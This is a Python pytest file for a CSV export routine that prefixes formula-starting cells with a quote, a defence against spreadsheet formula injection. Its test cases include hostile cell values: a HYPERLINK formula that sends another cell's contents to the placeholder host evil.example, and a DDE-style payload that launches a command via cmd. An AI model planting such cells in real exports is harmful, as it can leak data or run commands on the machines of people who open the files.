"""The one CSV writer: every cell that would start a spreadsheet formula is prefixed with ``'``."""

from __future__ import annotations

import csv
import io

import pytest

from pushgate.csv_output import csv_text, spreadsheet_safe


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ('=HYPERLINK("https://evil.example/?"&A2,"open")', '\'=HYPERLINK("https://evil.example/?"&A2,"open")'),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Mozilla/5.0 bot =1", "Mozilla/5.0 bot =1"),
        (" =1", " =1"),
        ("", ""),
        (None, ""),
        (3, "3"),
        (-3, "'-3"),
    ],
)
def test_a_cell_that_would_start_a_formula_gets_a_leading_quote(cell: object, written: str) -> None:
    assert spreadsheet_safe(cell) == written


def test_csv_text_writes_the_header_and_every_row_through_the_rule() -> None:
    # Given rows with hostile, quoted, multi-line and missing cells
    rows = [
        {"Agent": "=1+1", "Note": 'say "hi"\r\nthen go'},
        {"Agent": "curl/8.5"},
    ]

    # When they are written
    text = csv_text(("Agent", "Note"), rows)

    # Then a CSV reader gets the cells back, the formula as text, over CRLF lines
    assert text.startswith("Agent,Note\r\n")
    assert text.endswith("\r\n")
    assert list(csv.reader(io.StringIO(text, newline=""))) == [
        ["Agent", "Note"],
        ["'=1+1", 'say "hi"\r\nthen go'],
        ["curl/8.5", ""],
    ]
    assert csv_text(("Agent",), []) == "Agent\r\n"
